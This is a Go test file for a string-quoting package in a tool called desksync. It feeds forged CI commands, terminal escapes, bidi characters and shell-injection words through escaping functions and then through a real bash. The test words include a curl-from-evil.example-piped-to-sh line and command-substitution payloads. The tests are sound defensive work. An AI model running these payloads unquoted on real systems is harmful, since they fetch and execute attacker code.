package quote

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"
)

// hostile are strings a pull request, a state or a server can put in front of desksync.
var hostile = []string{
	"a\n::error title=forged::approved by security",
	"::warning::x",
	"  ::add-mask::x",
	"x ##[error]forged",
	"##vso[task.setvariable variable=a]b",
	"\x1b[2J\x1b]0;title\a",
	"\x9b31m C1 CSI",
	"rtl\u202etxt.exe",
	"isolate\u2066x\u2069",
	"zero\u200bwidth",
	"line\u2028sep",
	"cr\roverwrite",
	"tab\tcolumn",
	"bad \xff utf-8",
	"\ufeffbom",
	"nbsp\u00a0x",
}

// safeLine holds what a line printed by desksync may contain: printable runes and spaces,
// no CI command.
func safeLine(t *testing.T, what, s string) {
	t.Helper()
	for _, r := range s {
		if r == unicode.ReplacementChar || (r != ' ' && !unicode.IsPrint(r)) {
			t.Errorf("%s: %q holds %U", what, s, r)
		}
	}
	if strings.HasPrefix(strings.TrimLeft(s, " \t"), "::") || strings.Contains(s, "##") {
		t.Errorf("%s: %q holds a CI workflow command", what, s)
	}
}

func TestTextAndLineAreInert(t *testing.T) {
	t.Parallel()
	for _, s := range hostile {
		safeLine(t, "Text", Text(s))
		safeLine(t, "Line", Line(s))
		for _, l := range strings.Split(Lines(s+"\n"+s), "\n") {
			safeLine(t, "Lines", l)
		}
		safeLine(t, "Shell", Shell(s))
		safeLine(t, "Code", Code(s, true))
		safeLine(t, "HTMLCode", HTMLCode(s))
	}
}

func TestText(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"images/logo.png", "images/logo.png"},
		{"docs/user guides/a.pdf", "docs/user guides/a.pdf"},
		{"ünïcödé/日本.png", "ünïcödé/日本.png"},
		{"", `""`},
		{" lead", `" lead"`},
		{"trail ", `"trail "`},
		{"a\nb", `"a\nb"`},
		{"tab\tx", `"tab\tx"`},
		{"\x1b[31mred", `"\x1b[31mred"`},
		{"\u0085next", `"\u0085next"`},
		{"rtl\u202etxt", `"rtl\u202etxt"`},
		{"::error::x", `"::error::x"`},
		{"a ##[error] b", `"a #\x23[error] b"`},
		{"\xff", `"\xff"`},
	}
	for _, tt := range tests {
		if got := Text(tt.in); got != tt.want {
			t.Errorf("Text(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}

func TestLine(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{`refusing to delete "a.txt": it changed`, `refusing to delete "a.txt": it changed`},
		{"a\x1b[2Jb", `a\x1b[2Jb`},
		{"::error::x", `\x3a:error::x`},
		{"   ::error::x", `   \x3a:error::x`},
		{"see ##[group]", `see #\x23[group]`},
		{"bidi \u202e", `bidi \u202e`},
	}
	for _, tt := range tests {
		if got := Line(tt.in); got != tt.want {
			t.Errorf("Line(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}

func TestCode(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in      string
		inTable bool
		want    string
	}{
		{"images/logo.png", true, "`images/logo.png`"},
		{"a|b", true, "`a\\|b`"},
		{"a|b", false, "`a|b`"},
		{"a`b", true, "``a`b``"},
		{"a``b`", true, "``` a``b` ```"},
		{"`", false, "`` ` ``"},
		{"bell\a", true, "`\"bell\\a\"`"},
		{"@octocat", false, "`@octocat`"},
	}
	for _, tt := range tests {
		if got := Code(tt.in, tt.inTable); got != tt.want {
			t.Errorf("Code(%q, %v) = %q, want %q", tt.in, tt.inTable, got, tt.want)
		}
	}
}

func TestHTMLCode(t *testing.T) {
	t.Parallel()
	if got, want := HTMLCode(`<img src=x>@team&"`), `<code>&lt;img src=x&gt;&#64;team&amp;&quot;</code>`; got != want {
		t.Errorf("HTMLCode = %s, want %s", got, want)
	}
}

// TestShellRoundTrip runs each quoted word through a real sh and checks that it arrives as
// one argument, byte for byte, and ran nothing.
func TestShellRoundTrip(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash on PATH")
	}
	words := append([]string{
		"7f3c9a", "a b", "it's", `"; curl https://evil.example/x | sh; echo "`, "$(touch pwned)", "`id`",
		"x;touch${IFS}/tmp/x;#", "*", "~root", "!!", "-n", "",
	}, hostile...)
	for _, w := range words {
		if strings.ContainsRune(w, 0) {
			continue
		}
		if strings.ContainsFunc(w, func(r rune) bool { return r == unicode.ReplacementChar }) {
			continue // bash's printf would have to pass invalid UTF-8 through; checked by TestTextAndLineAreInert
		}
		cmd := exec.Command(bash, "-c", `printf '%s\0' `+Shell(w)+`; printf 'argc=%d' $#`, "bash")
		cmd.Env = append(os.Environ(), "LC_ALL=C.UTF-8") // $'\u…' needs a UTF-8 locale
		out, err := cmd.Output()
		if err != nil {
			t.Errorf("Shell(%q) = %s: bash failed: %v", w, Shell(w), err)
			continue
		}
		if got := string(out); got != w+"\x00argc=0" {
			t.Errorf("Shell(%q) = %s: bash saw %q", w, Shell(w), got)
		}
	}
	if Shell("7f3c-9a_b.c") != "7f3c-9a_b.c" {
		t.Errorf("a plain word is quoted: %s", Shell("7f3c-9a_b.c"))
	}
}

func TestJSON(t *testing.T) {
	t.Parallel()
	for _, s := range hostile {
		enc, err := json.MarshalIndent(map[string]string{s: s}, "", "\t")
		if err != nil {
			t.Fatal(err)
		}
		got := JSON(enc)
		for _, l := range strings.Split(string(got), "\n") {
			safeLine(t, "JSON", strings.TrimLeft(l, "\t"))
		}
		var back map[string]string
		if err := json.Unmarshal(got, &back); err != nil {
			t.Fatalf("JSON(%s) = %s: %v", enc, got, err)
		}
		want := strings.ToValidUTF8(s, "\ufffd")
		if back[want] != want {
			t.Errorf("JSON(%s) = %s decodes to %q", enc, got, back)
		}
	}
	if got := string(JSON([]byte(`{"a":"\u{1F600}"}`))); got != `{"a":"\u{1F600}"}` {
		t.Errorf("printable text changed: %s", got)
	}
}

// jsonByRune is JSON as first written, a rune at a time: AppendJSON's run-copying
// fast path must not change a byte of its output.
func jsonByRune(b []byte) []byte {
	var out []byte
	for i := 0; i < len(b); {
		r, size := utf8.DecodeRune(b[i:])
		switch {
		case r == '\n' || r == '\t' || r == '\r':
			out = append(out, b[i])
		case Unsafe(r):
			for _, u := range utf16.Encode([]rune{r}) {
				out = append(out, fmt.Sprintf(`\u%04x`, u)...)
			}
		case r == '#' && i+1 < len(b) && b[i+1] == '#':
			out = append(out, `#\u0023`...)
			size = 2
		default:
			out = append(out, b[i:i+size]...)
		}
		i += size
	}
	return out
}

func TestAppendJSONMatchesRuneByRune(t *testing.T) {
	inputs := append([]string{"", "#", "##", "###", "a##b#", "\x00\x7f\xff", "\u202e\u2028", "\U0001F600", "é#\n\t\r"}, hostile...)
	for _, in := range inputs {
		enc, _ := json.Marshal(map[string]string{in: in})
		for _, b := range [][]byte{[]byte(in), enc} {
			if got, want := AppendJSON([]byte("x"), b), append([]byte("x"), jsonByRune(b)...); !bytes.Equal(got, want) {
				t.Errorf("AppendJSON(%q) = %q, want %q", b, got, want)
			}
		}
	}
}

func FuzzAppendJSON(f *testing.F) {
	for _, s := range hostile {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if got, want := JSON(b), jsonByRune(b); !bytes.Equal(got, want) {
			t.Fatalf("JSON(%q) = %q, want %q", b, got, want)
		}
	})
}

// TestPrintableRunStopsWhereTheByteLoopStops holds the eight-at-a-time scan to a test
// of one byte at a time: every byte value at every offset of a word, after printable
// bytes and before others, as a string and as bytes.
func TestPrintableRunStopsWhereTheByteLoopStops(t *testing.T) {
	byByte := func(b []byte) int {
		for i, c := range b {
			if c < 0x20 || c >= 0x7f || c == '#' {
				return i
			}
		}
		return len(b)
	}
	for length := range 20 {
		for at := range length {
			for c := range 256 {
				for _, after := range []byte{'a', 0, 0x1f, 0x20, '#', 0x7e, 0x7f, 0x80, 0xff} {
					b := []byte(strings.Repeat("x", length))
					b[at] = byte(c)
					for i := at + 1; i < length; i++ {
						b[i] = after
					}
					want := byByte(b)
					if got := printableRun(b); got != want {
						t.Fatalf("printableRun(%q) = %d, want %d", b, got, want)
					}
					if got := printableRun(string(b)); got != want {
						t.Fatalf("printableRun(string %q) = %d, want %d", b, got, want)
					}
				}
			}
		}
	}
}

// TestPlainFastPathAgrees: the printable-ASCII shortcut in plain and Line gives what
// the rune-by-rune checks give, over hostile strings and every pair of interesting
// bytes and runes.
func TestPlainFastPathAgrees(t *testing.T) {
	byRune := func(s string) bool {
		return s != "" && s[0] != ' ' && s[len(s)-1] != ' ' && !strings.HasPrefix(s, "::") &&
			!strings.Contains(s, "##") && utf8.ValidString(s) && !strings.ContainsFunc(s, Unsafe)
	}
	pieces := []string{"", "a", " ", "#", "##", ":", "::", "\x00", "\x1f", "\x7f", "\x80", "\xff", "é", "\u202e", "\u00a0", "~"}
	in := append([]string{}, hostile...)
	for _, a := range pieces {
		for _, b := range pieces {
			for _, c := range pieces {
				in = append(in, a+b+c, "abcdefgh"+a+b+c, a+"abcdefghij"+b+c)
			}
		}
	}
	for _, s := range in {
		if got, want := plain(s), byRune(s); got != want {
			t.Errorf("plain(%q) = %v, want %v", s, got, want)
		}
		lineUnchanged := !strings.ContainsFunc(s, Unsafe) && utf8.ValidString(s) && !strings.Contains(s, "##") &&
			!strings.HasPrefix(strings.TrimLeft(s, " "), "::")
		if got := Line(s) == s; got != lineUnchanged {
			t.Errorf("Line(%q) unchanged = %v, want %v", s, got, lineUnchanged)
		}
	}
}
